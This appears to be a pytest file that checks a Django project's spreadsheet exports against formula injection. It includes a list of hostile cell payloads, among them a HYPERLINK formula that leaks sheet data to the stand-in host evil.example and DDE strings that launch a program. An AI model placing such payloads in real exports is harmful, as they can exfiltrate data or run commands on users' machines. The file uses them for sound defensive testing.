"""Formula (CSV/Excel) injection in exports (issue 10).

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return
before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` leaks the sheet, ``=cmd|' /C calc'!A0`` runs a
program (DDE). The project's rule, written in each exporter: such text is stored as a *string* cell with a
leading apostrophe, so it shows as typed and never computes.

* Every exporter's neutraliser is checked with generated text (hypothesis) through a real openpyxl save and
  load: never a formula cell, the text kept (with the apostrophe when it was dangerous).
* The attendee export is checked end to end through its page with hostile names in every column.
* The other exports (survey results, improvement plan and quarterly report, KPI dashboard) are opened by
  tests/security/test_stored_xss.py with every free-text field of the demo poisoned, and checked the same
  way; that test also fails on any CSV response (there is none today) that carries a dangerous cell.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from huiyi.feedback.improvement import exports as improvement_exports
from huiyi.onsite.attendees import exports as attendee_exports
from huiyi.quality.kpis import exports as kpi_exports

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NEUTRALISERS = {
    "attendees": attendee_exports.neutralise,
    "improvement": improvement_exports.neutralise,
    "kpis": kpi_exports.neutralise,
    "kpis cell": kpi_exports._cell,
}


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def dangerous_text_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_START)
    ]


def assert_no_formula(content: bytes) -> None:
    """Shared with test_stored_xss: no formula cell, no text cell that starts like one."""
    assert not formula_cells(content), formula_cells(content)[:10]
    assert not dangerous_text_cells(content), dangerous_text_cells(content)[:10]


def assert_csv_is_inert(content: bytes) -> None:
    text = content.decode("utf-8-sig", errors="replace")
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith(DANGEROUS_START), value


def roundtrip(value) -> tuple[str, object]:
    book = Workbook()
    book.active.append([value])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    return cell.data_type, cell.value


@pytest.mark.parametrize("name", NEUTRALISERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_issue_10_every_neutraliser_stops_the_known_payloads(name, payload):
    data_type, value = roundtrip(NEUTRALISERS[name](payload))
    assert data_type != "f"
    assert value in {"'" + payload, "'" + payload.replace("\r", "\n")}


@given(text=st.text(max_size=40))
def test_issue_10_neutralisers_never_let_text_become_a_formula(text):
    """For any text: a string cell after a real save and load, the text itself kept (one apostrophe in front
    exactly when it started like a formula)."""
    for neutralise in NEUTRALISERS.values():
        shown = neutralise(text)
        assert isinstance(shown, str)
        assert not shown.startswith(DANGEROUS_START)
        if text.startswith(DANGEROUS_START):
            assert shown == "'" + text
        else:
            assert shown == text


@pytest.mark.django_db
def test_issue_10_attendee_export_keeps_hostile_names_as_text(client, make_user, make_project, org):
    """The attendee list as .xlsx through its page: a name, organisation, title, seat or dietary note that
    starts like a formula comes out as text with an apostrophe."""
    from huiyi.onsite.attendees.models import Attendee

    pm = make_user("project_manager", org["north_events"])
    project = make_project(members=[(pm, "project_manager")])
    for index, payload in enumerate(PAYLOADS):
        Attendee.objects.create(
            project=project,
            external_key=f"k{index}",
            name=payload,
            organisation=payload,
            title=payload[:120],
            phone=payload[:40],
            email=f"a{index}@example.com",
            seat=payload[:40],
            dietary=payload,
        )
    client.force_login(pm)
    response = client.get(reverse("attendees:export", args=[project.pk]))
    assert response.status_code == 200
    assert_no_formula(response.content)
    names = [row[0] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    for payload in PAYLOADS:
        assert {"'" + payload, "'" + payload.replace("\r", "\n")} & set(names), payload
